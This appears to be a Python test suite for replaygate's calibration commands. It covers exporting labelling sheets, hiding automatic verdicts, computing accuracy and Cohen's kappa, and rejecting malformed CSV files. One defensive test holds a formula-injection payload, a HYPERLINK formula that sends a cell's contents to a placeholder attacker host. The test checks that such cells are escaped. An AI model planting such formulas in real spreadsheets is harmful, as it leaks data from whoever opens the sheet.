"""Human calibration: the labelling sheet, its hidden verdicts, accuracy and Cohen's kappa."""

from __future__ import annotations

import csv
import json
import os
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from replaygate.assertions import citations_check, contains_check
from replaygate.cli.assert_cmds import calibrate
from replaygate.evals.results import load_eval_results
from replaygate.sampling import (
    SampleChecks,
    SampledResult,
    SampleResult,
    load_results,
    run_sampled,
    write_results,
)
from replaygate.sampling.calibration import (
    Agreement,
    CalibrationError,
    cohen_kappa,
    export_sheet,
    format_agreements,
    score_sheet,
    sidecar_path,
)

ANSWERS = [
    "RAG retrieves first [doc-rag], then adds context.",
    "RAG retrieves first.",
    "RAG retrieves first [doc-rag].",
    "It depends.",
    "Context comes from retrieval [doc-rag].",
]
CHECKS = [citations_check(["doc-rag"], kind="gate"), contains_check(["context"], kind="signal")]


@pytest.fixture
def results(tmp_path: Path) -> Path:
    cases = [
        run_sampled(lambda i: ANSWERS[i], 5, 4, CHECKS, case="rag"),
        run_sampled(lambda i: ANSWERS[4 - i], 5, 4, CHECKS, case="rag-reversed"),
    ]
    return write_results(tmp_path / "results.json", cases)


def read_rows(sheet: Path) -> list[dict[str, str]]:
    with sheet.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def write_rows(sheet: Path, rows: list[dict[str, str]]) -> None:
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


# -- Cohen's kappa, checked by hand ------------------------------------------------------


def test_kappa_hand_computed() -> None:
    # both pass 4, both fail 3, human pass / auto fail 1, human fail / auto pass 2:
    # p_o = 7/10; p_e = 5/10 * 6/10 + 5/10 * 4/10 = 0.5; kappa = (0.7 - 0.5) / 0.5 = 0.4
    pairs = [(True, True)] * 4 + [(False, False)] * 3 + [(True, False)] + [(False, True)] * 2
    assert cohen_kappa(pairs) == pytest.approx(0.4)
    # p_o = 3/4; p_e = 3/4 * 2/4 + 1/4 * 2/4 = 0.5; kappa = 0.5
    assert cohen_kappa(
        [(True, True), (True, True), (False, False), (True, False)]
    ) == pytest.approx(0.5)
    assert cohen_kappa([(True, True), (False, False)]) == 1.0
    assert cohen_kappa([(True, False), (False, True)]) == -1.0
    assert cohen_kappa([(True, True)] * 3) is None
    assert cohen_kappa([]) is None


# -- export -------------------------------------------------------------------------------


def test_export_hides_the_verdicts_in_a_sidecar(results: Path, tmp_path: Path) -> None:
    sheet, side, count, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=3, seed=7)
    rows = read_rows(sheet)
    assert count == len(rows) == 6  # 3 outputs x 2 assertions
    assert list(rows[0]) == [
        "item",
        "case",
        "sample",
        "assertion",
        "kind",
        "checks",
        "output",
        "label",
    ]
    assert {r["label"] for r in rows} == {""}
    assert all(r["output"] in ANSWERS for r in rows)
    assert "pass" not in {r["kind"] for r in rows} and side == sidecar_path(sheet)
    verdicts = json.loads(side.read_text())["items"]
    assert set(verdicts) == {r["item"] for r in rows}
    assert {v["automatic"] for v in verdicts.values()} <= {"pass", "fail"}
    again, _, _, _, _ = export_sheet(results, tmp_path / "again.csv", n=3, seed=7)
    assert read_rows(again) == rows


def two_turns(index: int, first: str, second: str) -> SampleResult:
    """A sample whose body evaluates a gate on ``first`` and a signal on ``second``."""
    checks = SampleChecks(index)
    checks.evaluate(first, contains_check(["RAG"], kind="gate", name="mentions"))
    checks.evaluate(second, citations_check(["doc-rag"], kind="signal"))
    return checks.result()


def test_each_check_keeps_the_output_it_looked_at(tmp_path: Path) -> None:
    # a sample kept only its first evaluate's output: the citations rows of the
    # calibration sheet showed the summary turn, though the check passed on the detailed one
    turns = [("RAG retrieves first.", "Details [doc-rag]."), ("RAG looks up.", "None at all.")]
    case = SampledResult("rag", 2, 1, tuple(two_turns(i, *t) for i, t in enumerate(turns)))
    assert [(s.output_of(0), s.output_of(1)) for s in case.samples] == turns
    results = write_results(tmp_path / "results.json", [case])
    stored = json.loads(results.read_text(encoding="utf-8"))["cases"][0]["sample_results"][0]
    assert stored["output"] == "RAG retrieves first."
    assert [o.get("output") for o in stored["outcomes"]] == [None, "Details [doc-rag]."]
    assert load_results(results)[0].samples == case.samples
    assert load_eval_results(results).cases[0].sampled.samples == case.samples  # as gate reads
    sheet = export_sheet(results, tmp_path / "sheet.csv", n=2, seed=1).sheet
    rows = read_rows(sheet)
    shown = {(r["sample"], r["assertion"]): r["output"] for r in rows}
    assert shown == {
        ("0", "mentions"): "RAG retrieves first.", ("0", "citations"): "Details [doc-rag].",
        ("1", "mentions"): "RAG looks up.", ("1", "citations"): "None at all.",
    }  # fmt: skip


def test_export_errors(results: Path, tmp_path: Path) -> None:
    with pytest.raises(CalibrationError, match="--n must be at least 1, got 0"):
        export_sheet(results, tmp_path / "s.csv", n=0, seed=1)
    bare = SampledResult("plain", 3, 2, tuple(SampleResult(i, output="x") for i in range(3)))
    empty = write_results(tmp_path / "empty.json", [bare])
    with pytest.raises(CalibrationError, match="no sample with evaluated assertions to label"):
        export_sheet(empty, tmp_path / "s.csv", n=5, seed=1)


# -- score -------------------------------------------------------------------------------


def test_score_compares_labels_with_the_hidden_verdicts(results: Path, tmp_path: Path) -> None:
    sheet, side, _, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=10, seed=3)
    verdicts = json.loads(side.read_text())["items"]
    rows = read_rows(sheet)
    # the person agrees with the citation gate everywhere and always says "pass" for context
    for row in rows:
        automatic = verdicts[row["item"]]["automatic"]
        row["label"] = automatic if row["assertion"] == "citations" else "Yes"
    rows[-1]["label"] = ""
    write_rows(sheet, rows)
    cites, context = score_sheet(sheet)
    assert (cites.assertion, cites.accuracy, cites.kappa, cites.unlabelled) == (
        "citations",
        1.0,
        1.0,
        0,
    )
    expected = [
        (True, verdicts[r["item"]]["automatic"] == "pass")
        for r in rows[:-1]
        if r["assertion"] == "contains"
    ]
    assert context.pairs == tuple(expected) and context.unlabelled == 1
    assert context.kappa == cohen_kappa(expected) == 0.0
    assert context.accuracy == pytest.approx(sum(a for _, a in expected) / len(expected))


def test_a_sheet_saved_in_another_unicode_form_is_scored(tmp_path: Path) -> None:
    case = run_sampled(lambda i: ANSWERS[i], 5, 4, CHECKS, case="caf\u00e9")
    results = write_results(tmp_path / "results.json", [case])
    sheet, *_ = export_sheet(results, tmp_path / "sheet.csv", n=1, seed=1)
    rows = read_rows(sheet)  # as a spreadsheet saving its text in NFD writes them back
    rows = [{**row, "case": unicodedata.normalize("NFD", row["case"]), "label": "pass"}
            for row in rows]  # fmt: skip
    write_rows(sheet, rows)
    assert sum(len(agreement.pairs) for agreement in score_sheet(sheet)) == len(rows) == 2


def test_score_errors_name_the_row(results: Path, tmp_path: Path) -> None:
    sheet, side, _, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=2, seed=1)
    rows = read_rows(sheet)
    rows[1]["label"] = "maybe"
    write_rows(sheet, rows)
    with pytest.raises(
        CalibrationError, match=f"{sheet}:3: label 'maybe' is neither pass nor fail"
    ):
        score_sheet(sheet)
    rows[1]["label"], rows[0]["assertion"] = "pass", "renamed"
    write_rows(sheet, rows)
    with pytest.raises(
        CalibrationError,
        match=r"sheet.csv:2: item 1 does not match the sidecar \(.*\): its assertion is 'renamed'",
    ):
        score_sheet(sheet)
    rows[0]["item"] = "99"
    write_rows(sheet, rows)
    with pytest.raises(CalibrationError, match="item '99' is not in the sidecar"):
        score_sheet(sheet)
    side.unlink()
    with pytest.raises(CalibrationError, match="cannot read the automatic verdicts"):
        score_sheet(sheet)
    (tmp_path / "bare.csv").write_text("item,label\n1,pass\n")
    (tmp_path / "v.json").write_text(
        '{"format": "replaygate.calibration", "version": 1, "items": {}}'
    )
    with pytest.raises(CalibrationError, match="missing column\\(s\\) assertion, case, checks"):
        score_sheet(tmp_path / "bare.csv", sidecar=tmp_path / "v.json")
    (tmp_path / "v.json").write_text('{"format": "other"}')
    with pytest.raises(CalibrationError, match=r"v.json: not a calibration sidecar"):
        score_sheet(tmp_path / "bare.csv", sidecar=tmp_path / "v.json")


def test_a_row_cut_short_shifted_or_repeated_is_refused(results: Path, tmp_path: Path) -> None:
    sheet, _, _, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=3, seed=1)
    rows = read_rows(sheet)
    for row in rows:
        row["label"] = "pass"
    write_rows(sheet, rows)
    labelled = sheet.read_text(encoding="utf-8")
    lines = labelled.splitlines(keepends=True)
    header, first, second = lines[0], lines[1], lines[2]
    cut = header + first + second[: second.index(",", second.index(",") + 1)] + "\r\n"
    padded = labelled.replace(",pass\r\n", ",pass,,\r\n")  # a spreadsheet's padding
    for text, message in [
        (cut, r"sheet\.csv:3: the row has 2 cells, the header 8: was it cut short"),
        (header + first.replace(",pass", ",fail,pass"), r"sheet\.csv:2: the row has 9 cells"),
        (header + first + first, r"sheet\.csv:3: item '1' again \(first at .*sheet\.csv:2\)"),
    ]:
        sheet.write_text(text, encoding="utf-8")
        with pytest.raises(CalibrationError, match=message):
            score_sheet(sheet)
    sheet.write_text(padded, encoding="utf-8")
    assert sum(a.labelled for a in score_sheet(sheet)) == len(rows)


def test_rows_deleted_from_the_sheet_are_named(results: Path, tmp_path: Path) -> None:
    sheet, side, written, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=5, seed=7)
    rows = read_rows(sheet)
    for row in rows:
        row["label"] = "pass"
    write_rows(sheet, rows[:1] + rows[2:3])  # items 2 and 4.. deleted
    spans = f"2, 4..{written}"
    with pytest.raises(CalibrationError) as caught:
        score_sheet(sheet)
    assert str(caught.value) == (
        f"{sheet}: no row for items {spans} of {side}: the agreement would be over fewer "
        "rows than were drawn; restore the rows (one with an empty label counts as unlabelled)"
    )
    write_rows(sheet, rows[:-1])
    with pytest.raises(CalibrationError, match=f"no row for item {written} of "):
        score_sheet(sheet)
    done = CliRunner().invoke(calibrate, ["score", str(sheet)])
    assert done.exit_code == 2 and f"no row for item {written}" in done.output, done.output
    rows[-1]["label"] = ""  # a row kept with an empty label is counted unlabelled
    write_rows(sheet, rows)
    assert sum(a.unlabelled for a in score_sheet(sheet)) == 1


@pytest.mark.parametrize(
    "saved",
    [
        lambda data: b"\xef\xbb\xbf" + data,  # "CSV UTF-8" of a spreadsheet
        # "CSV (Macintosh)" ends lines with a lone CR: reading the header raised csv.Error
        lambda data: data.replace(b"\r\n", b"\r"),
    ],
    ids=["byte order mark", "lone CR line ends"],
)
def test_a_sheet_a_spreadsheet_saved_is_scored(
    results: Path, tmp_path: Path, saved: Callable[[bytes], bytes]
) -> None:
    sheet, _, _, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=2, seed=1)
    rows = read_rows(sheet)
    for row in rows:
        row["label"] = "pass"
    write_rows(sheet, rows)
    sheet.write_bytes(saved(sheet.read_bytes()))
    assert sum(a.labelled for a in score_sheet(sheet)) == len(rows)


def test_a_cr_in_the_header_names_the_columns_it_splits(results: Path, tmp_path: Path) -> None:
    sheet, _, _, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=2, seed=1)
    sheet.write_bytes(b"item\r," + sheet.read_bytes()[len(b"item,") :])
    with pytest.raises(CalibrationError, match="missing column"):
        score_sheet(sheet)


@pytest.mark.parametrize(
    ("sheet", "sidecar", "message"),
    [
        (b"item,label\n", b"[" * 100_000 + b"]" * 100_000, "v.json: not JSON this reader"),
        (b"item,label\n", b'{"format": "\xe9"}', "v.json: not UTF-8 text"),
        (
            b"item,label\n",
            b'{"format": "repl',
            "v.json: not JSON: Unterminated string starting at line 1, column 12",
        ),
        (
            b"item,label\n",
            b'{"format": "replaygate.calibration", "version": 1, "items": {"1": 5}}',
            "v.json: items.1: must be an object, got 5",
        ),
        (  # it was "(invalid continuation byte at byte 14)"
            b"item,label\n1,r\xe9ussi\n",
            b"{}",
            r"bare\.csv:2: not UTF-8 text \(byte 0xe9 at column 4\): save the sheet as CSV UTF-8$",
        ),
        (  # a spreadsheet's "Unicode Text"; it was "(invalid start byte at byte 0)"
            "item\tlabel\n1\tpass\n".encode("utf-16"),
            b"{}",
            r"bare\.csv: not UTF-8 text \(it looks like UTF-16: re-save the file as UTF-8\): "
            r"save the sheet as CSV UTF-8$",
        ),
    ],
    ids=[
        "sidecar nested too deeply",
        "sidecar in Latin-1",
        "sidecar cut off",
        "sidecar item",
        "sheet in Latin-1",
        "sheet in UTF-16",
    ],
)
def test_a_sheet_or_sidecar_that_cannot_be_read_is_named(
    tmp_path: Path, sheet: bytes, sidecar: bytes, message: str
) -> None:
    (tmp_path / "bare.csv").write_bytes(sheet)
    (tmp_path / "v.json").write_bytes(sidecar)
    if sidecar == b"{}":
        (tmp_path / "v.json").write_text(
            '{"format": "replaygate.calibration", "version": 1, "items": {}}'
        )
    with pytest.raises(CalibrationError, match=message):
        score_sheet(tmp_path / "bare.csv", sidecar=tmp_path / "v.json")


def test_format_agreements() -> None:
    lines = format_agreements(
        [
            Agreement("citations", ((True, True), (False, False), (True, False)), 2),
            Agreement("contains", ((True, True),), 0),
        ]
    )
    assert lines == [
        "assertion  labelled  accuracy  kappa  unlabelled",
        "citations         3      0.67   0.40           2",
        "contains          1      1.00    n/a           0",
        "kappa n/a: both raters gave one and the same label; label more varied rows",
    ]


# -- the commands ------------------------------------------------------------------------


def test_calibrate_commands(results: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    sheet = tmp_path / "labels.csv"
    out = runner.invoke(
        calibrate, ["export", "--n", "4", "--seed", "11", "--out", str(sheet), str(results)]
    )
    assert out.exit_code == 0, out.output
    sidecar = tmp_path / "labels.verdicts.json"
    assert out.output == (
        f"wrote 8 row(s), one per assertion of 4 output(s) drawn, to {sheet}; automatic "
        f"verdicts kept in {sidecar}\n"
        f"fill the label column with pass or fail, then: replaygate calibrate score {sheet}\n"
    )
    every = ["export", "--n", "40", "--seed", "1", "--out", str(tmp_path / "all.csv")]
    fewer = runner.invoke(calibrate, [*every, str(results)])
    assert f"of 10 output(s) drawn, all {results} holds, of the 40 asked, to " in fewer.output
    rows = read_rows(sheet)
    for row in rows:
        row["label"] = "fail"
    write_rows(sheet, rows)
    out = runner.invoke(calibrate, ["score", str(sheet)])
    assert out.exit_code == 0, out.output
    assert out.output.splitlines()[0] == "assertion  labelled  accuracy  kappa  unlabelled"
    assert out.output.splitlines()[1].startswith("citations         4")
    rows[0]["label"] = "?"
    write_rows(sheet, rows)
    out = runner.invoke(calibrate, ["score", str(sheet)])
    assert out.exit_code == 2  # bad input, as for every command
    assert "Error: " in out.output and "label '?' is neither pass nor fail" in out.output


def test_export_never_writes_over_labels_or_its_results(results: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    sheet = tmp_path / "labels.csv"
    export = ["export", "--n", "4", "--seed", "11", "--out", str(sheet), str(results)]
    assert runner.invoke(calibrate, export).exit_code == 0
    assert runner.invoke(calibrate, export).exit_code == 0  # no label yet: drawn again
    rows = read_rows(sheet)
    rows[2]["label"] = "pass"
    write_rows(sheet, rows)
    labelled = sheet.read_bytes()
    again = runner.invoke(calibrate, export)
    assert again.exit_code == 2
    assert f"Error: {sheet}: holds 1 label(s) already; export to another file" in again.output
    assert sheet.read_bytes() == labelled
    named = results.with_name("r.verdicts.json")  # the name of the sidecar of r.csv
    named.write_bytes(results.read_bytes())
    for given, out in ((results, results), (named, results.with_name("r.csv"))):
        cut = runner.invoke(calibrate, ["export", "--seed", "1", "--out", str(out), str(given)])
        assert cut.exit_code == 2 and "is the results file" in cut.output, cut.output
        assert given.read_bytes() == results.read_bytes()


@pytest.mark.parametrize("saved", ["as written", "without the apostrophes"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    tmp_path: Path, saved: str
) -> None:
    """A model's output, a case id or a check that starts like a formula (``=``, ``+``,
    ``-``, ``@``) is written behind an apostrophe, so the spreadsheet a person labels in
    shows it and runs nothing; the sheet is scored whether it comes back with the
    apostrophes or, as a spreadsheet saves it, without."""
    outputs = ['=HYPERLINK("http://evil.invalid/?q="&A1,"[doc-rag]")', "+1 [doc-rag]", "@me"]
    checks = [citations_check(["doc-rag"], kind="gate")]
    cases = [run_sampled(lambda i: outputs[i], 3, 1, checks, case="-negated")]
    results = write_results(tmp_path / "results.json", cases)
    sheet, side, _, _, _ = export_sheet(results, tmp_path / "sheet.csv", n=3, seed=1)
    rows = read_rows(sheet)
    assert sorted(row["output"] for row in rows) == sorted(f"'{text}" for text in outputs)
    assert {row["case"] for row in rows} == {"'-negated"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    verdicts = json.loads(side.read_text())["items"]
    for row in rows:
        row["label"] = verdicts[row["item"]]["automatic"]
        if saved != "as written":
            row.update({name: value.removeprefix("'") for name, value in row.items()})
    write_rows(sheet, rows)
    (agreement,) = score_sheet(sheet)
    assert (agreement.assertion, agreement.accuracy, agreement.unlabelled) == ("citations", 1.0, 0)


@pytest.mark.parametrize("sheet", ["fifo.csv", "/dev/null"])
def test_scoring_a_sheet_that_is_no_file_names_the_sheet(tmp_path: Path, sheet: str) -> None:
    # its sidecar, which no export wrote beside it, was said to be missing
    os.mkfifo(tmp_path / "fifo.csv")
    path = sheet if sheet.startswith("/") else str(tmp_path / sheet)
    done = CliRunner().invoke(calibrate, ["score", path])
    assert done.exit_code == 2
    kind = "a device" if sheet.startswith("/") else "a FIFO"
    assert f"Error: {path}: cannot read the sheet: is {kind}, where a file" in done.output
